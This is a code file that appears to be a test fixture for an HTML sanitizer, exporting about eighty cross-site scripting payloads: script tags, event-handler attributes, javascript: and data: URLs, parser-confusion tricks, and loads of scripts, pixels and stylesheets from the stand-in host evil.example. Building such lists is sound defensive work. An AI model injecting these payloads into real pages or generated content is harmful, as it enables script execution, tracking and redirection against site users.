// HTML that tries to run a script, after the lists that testers of web pages use. In: nothing. Out: one attack a line, each
// of which calls `alert` or asks another host for something when a page lets it.
export const ATTACKS = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script type=module>alert(1)</script>
<scr<script>ipt>alert(1)</script>
<script/x>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)" style="display:block">
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img/src=x/onerror=alert(1)>
<img src=x onerror=&#97;lert(1)>
<img src="javascript:alert(1)">
<img src=https://evil.example/pixel.gif>
<img srcset="https://evil.example/pixel.gif 1x">
<image href=https://evil.example/pixel.gif>
<picture><source srcset=https://evil.example/p.webp><img src=https://evil.example/p.gif></picture>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=https://evil.example/x.js /></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>click</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"></use></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">click</math>
<a href="javascript:alert(1)">click</a>
<a href="JaVaScRiPt:alert(1)">click</a>
<a href="java&#x09;script:alert(1)">click</a>
<a href=" &#14; javascript:alert(1)">click</a>
<a href="data:text/html,<script>alert(1)</script>">click</a>
<a href="vbscript:alert(1)">click</a>
<a href="https://site.example/" onclick="alert(1)">click</a>
<a href="https://site.example/)](javascript:alert(1)">click</a>
<a href="https://site.example/">](javascript:alert(1)) [click</a>
<body onload=alert(1)>
<body background="https://evil.example/b.gif">
<html onpageshow=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src=https://evil.example/></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="https://evil.example/x.swf">
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=prefetch href=https://evil.example/x>
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<style>@import 'https://evil.example/x.css';</style>
<style>body{background:url(https://evil.example/b.gif)}</style>
<p style="background:url(https://evil.example/b.gif)">styled</p>
<p style="width:expression(alert(1))">styled</p>
<p style="-moz-binding:url(https://evil.example/x.xml#x)">styled</p>
<div style="animation-name:x" onanimationstart=alert(1)>styled</div>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)>x</textarea>
<button autofocus onfocus=alert(1)>x</button>
<form action="javascript:alert(1)"><input type=submit></form>
<button form=f formaction="javascript:alert(1)">x</button><form id=f></form>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video onerror=alert(1)><source src=https://evil.example/v.mp4></video>
<video poster=https://evil.example/p.gif></video>
<audio src=https://evil.example/a.mp3 onerror=alert(1) autoplay></audio>
<marquee onstart=alert(1)>x</marquee>
<table background="https://evil.example/b.gif"><tr><td>cell</td></tr></table>
<xss contenteditable autofocus tabindex=1 onfocus=alert(1)>x</xss>
<xss style="transition:outline 1s" ontransitionend=alert(1)>x</xss>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<!--><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<p style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>·<script>alert(1)</script></span><img src=x onerror=alert(1)>item</p>
<ul><li onclick=alert(1)><script>alert(1)</script>item</ul>
<h1 onmouseover=alert(1) style="position:fixed;inset:0">heading</h1>
<p>&lt;img src=x onerror=alert(1)&gt;</p><b>bold</b>
<b>&lt;script&gt;alert(1)&lt;/script&gt;</b>
`.trim().split("\n");
